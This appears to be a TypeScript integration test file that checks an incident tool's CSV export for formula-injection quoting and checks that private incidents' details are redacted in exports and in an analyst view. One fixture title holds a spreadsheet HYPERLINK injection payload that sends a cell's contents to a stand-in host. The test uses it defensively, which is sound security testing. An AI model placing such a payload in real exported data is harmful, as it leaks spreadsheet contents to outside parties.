/**
 * Issue 20, the record: CSV injection through `;` (3), `/incident export` and private incidents'
 * details (7), and the analyst view naming private clocks (8). Over real HTTP and real Postgres.
 */
import { parse } from 'csv-parse/sync';
import { type SQL, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { incidentClocks, incidentMembers, incidents } from '../../src/db/schema/index.js';
import { eventually, startHarness, type Harness } from '../support/meridian-harness.js';

const TOKEN = 'reports-token-0123456789abcdef';
const at = (iso: string) => new Date(iso);

let h: Harness;
const numbers = { semicolon: 0, secret: 0 };

beforeAll(async () => {
  h = await startHarness(import.meta.url, { env: { REPORTS_API_TOKEN: TOKEN } });
  h.fake.addUser({ id: 'U0ANALYST1', name: 'analyst' });
  h.fake.addUser({ id: 'U0MEMBER01', name: 'member' });
  const [semicolon] = await h.db
    .insert(incidents)
    .values({
      teamId: 'T0TEST0001',
      idempotencyKey: 'record-semicolon',
      title: 'x;=HYPERLINK("http://evil.example/?"&A1);y',
      severity: 'sev2',
      category: 'harmful-trend',
      declaredBy: 'U0DECL001',
      declaredAt: at('2026-03-02T08:00:00Z'),
    })
    .returning({ id: incidents.id, number: incidents.number });
  numbers.semicolon = semicolon!.number;
  const [secret] = await h.db
    .insert(incidents)
    .values({
      teamId: 'T0TEST0001',
      idempotencyKey: 'record-secret',
      title: 'Named minor',
      severity: 'sev1',
      category: 'child-safety',
      isPrivate: true,
      declaredBy: 'U0MEMBER01',
      commanderId: 'U0MEMBER01',
      declaredAt: at('2026-03-03T23:30:00Z'),
    })
    .returning({ id: incidents.id, number: incidents.number });
  numbers.secret = secret!.number;
  await h.db.insert(incidentMembers).values({ incidentId: secret!.id, userId: 'U0MEMBER01' });
  await h.db.insert(incidentClocks).values({
    incidentId: secret!.id,
    label: 'hotline',
    name: 'NCMEC report for victim Jane',
    source: 'Tip from Jane Doe',
    startKind: 'declared',
    startedAt: at('2026-03-03T23:30:00Z'),
    dueAt: at('2026-03-04T23:30:00Z'),
    state: 'running',
  });
});
afterAll(async () => {
  await h?.close();
});

async function csvOverHttp(): Promise<string> {
  const res = await fetch(`http://127.0.0.1:${h.runtime.port}/api/incidents.csv?from=2026-03-01&to=2026-03-31`, {
    headers: { authorization: `Bearer ${TOKEN}` },
  });
  expect(res.status).toBe(200);
  return res.text();
}

async function exportFor(userId: string, filesBefore: number): Promise<Record<string, string>[]> {
  await h.command('export 2026-03-01 2026-03-31', { userId, channelId: 'C0GENERAL1' });
  const file = await eventually(
    () =>
      h.fake
        .files()
        .slice(filesBefore)
        .find((f) => f.completed && f.filename === 'incidents-2026-03-01-to-2026-03-31.csv'),
    `the export upload for ${userId}`,
  );
  return parse(file.content?.toString('utf8') ?? '', { columns: true }) as Record<string, string>[];
}

describe('the CSV export (issue 20, items 3 and 7)', () => {
  it('when a title holds `;` and a formula, then every data cell is quoted so a `;`-separator spreadsheet keeps it one cell of text', async () => {
    const text = await csvOverHttp();
    const lines = text.split('\r\n').filter((line) => line !== '');
    expect(lines.length).toBe(3);
    for (const line of lines.slice(1)) expect(line).toMatch(/^"[^"]*(?:""[^"]*)*"(?:,"[^"]*(?:""[^"]*)*")*$/);
    expect(text).toContain(`,"x;=HYPERLINK(""http://evil.example/?""&A1);y",`);
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records[0]?.['title']).toBe('x;=HYPERLINK("http://evil.example/?"&A1);y');
  });

  it('when someone outside a private incident runs /incident export, then its severity, category, commander and hub are blank; its member sees them', async () => {
    const outsider = await exportFor('U0ANALYST1', h.fake.files().length);
    const hidden = outsider.find((r) => r['number'] === String(numbers.secret));
    expect(hidden).toMatchObject({ title: '(private)', private: 'true', severity: '', category: '', commander: '', hub: '' });
    expect(outsider.find((r) => r['number'] === String(numbers.semicolon))).toMatchObject({ severity: 'sev2', category: 'harmful-trend' });

    const member = await exportFor('U0MEMBER01', h.fake.files().length);
    expect(member.find((r) => r['number'] === String(numbers.secret))).toMatchObject({
      title: '(private)',
      severity: 'sev1',
      category: 'child-safety',
      commander: 'U0MEMBER01',
    });
  });
});

/** Rows of an analyst's query, as plain objects. */
async function query(statement: SQL): Promise<Record<string, unknown>[]> {
  return [...((await h.db.execute(statement)) as unknown as Record<string, unknown>[])];
}

describe('the analyst view deadline_outcomes (issue 20, item 8)', () => {
  it('when a private incident has a typed clock, then the view shows its name and source as (private)', async () => {
    const rows = await query(sql`select incident_number, private, name, source, state from deadline_outcomes`);
    expect(rows).toEqual([{ incident_number: numbers.secret, private: true, name: '(private)', source: '(private)', state: 'running' }]);
  });
});
